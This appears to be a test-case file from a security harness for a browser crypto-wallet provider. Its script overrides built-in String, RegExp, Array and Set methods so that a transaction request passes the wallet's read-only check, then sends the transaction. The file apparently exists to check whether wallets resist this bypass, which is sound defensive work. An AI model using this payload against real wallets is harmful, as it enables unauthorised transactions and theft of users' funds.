import type { Attack } from '../Attack.ts';

/** Names are compared after trimming and folding, by functions of the page's. */
export const attack: Attack = {
  entry: 'provider.request',
  mechanism: 'toLowerCase, trim, includes, startsWith and RegExp.test all say it is a read',
  discovers: true,
  script: `
const wallet = await kit.wallet();
for (const name of ['toLowerCase', 'trim', 'toString', 'valueOf', 'normalize', 'slice']) {
  const real = String.prototype[name];
  String.prototype[name] = function (...args) { const text = real.apply(this, args); return text === 'eth_sendTransaction' ? 'eth_chainId' : text; };
}
const { test } = RegExp.prototype;
RegExp.prototype.test = function (text) { return text === 'eth_sendTransaction' ? false : test.call(this, text); };
Array.prototype.includes = () => true;
Set.prototype.has = () => true;
wallet.request(kit.send());
`,
};
